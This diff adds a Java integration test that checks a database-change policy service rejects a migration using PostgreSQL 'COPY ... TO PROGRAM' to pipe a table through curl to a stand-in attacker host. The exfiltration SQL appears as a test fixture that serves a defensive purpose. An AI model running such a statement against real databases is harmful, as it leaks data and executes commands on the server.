@@ -109,6 +109,44 @@ class PolicyDecisionsIT {
     }
 
     @Test
+    void aMigrationThatRunsAProgramOnTheServerIsRejected() {
+        String id = UUID.randomUUID().toString();
+        JsonNode payload = EventJson.mapper()
+                .valueToTree(Map.of(
+                        "migrations",
+                        List.of(Map.of(
+                                "version",
+                                "12",
+                                "description",
+                                "export stops",
+                                "sql",
+                                "COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'"))));
+        kafka.send(
+                "dbp.requests",
+                id,
+                EventType.REQUEST_SUBMITTED,
+                id,
+                new RequestSubmitted(
+                        id,
+                        RequestType.SCHEMA_CHANGE,
+                        "routing",
+                        "alice",
+                        "logicore",
+                        "routing",
+                        payload,
+                        Instant.now()));
+
+        var rejected = kafka.await(
+                "dbp.decisions",
+                r -> id.equals(r.key())
+                        && EventType.REQUEST_REJECTED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
+                WAIT);
+        var findings = EventJson.read(rejected.value(), RequestRejected.class).findings();
+        assertThat(findings).extracting("code").contains("security.copy");
+        assertThat(findings.get(0).field()).isEqualTo("payload.migrations[0].sql");
+    }
+
+    @Test
     void aRedeliveredSubmissionIsDecidedOnce() {
         String id = UUID.randomUUID().toString();
         var submitted = new RequestSubmitted(
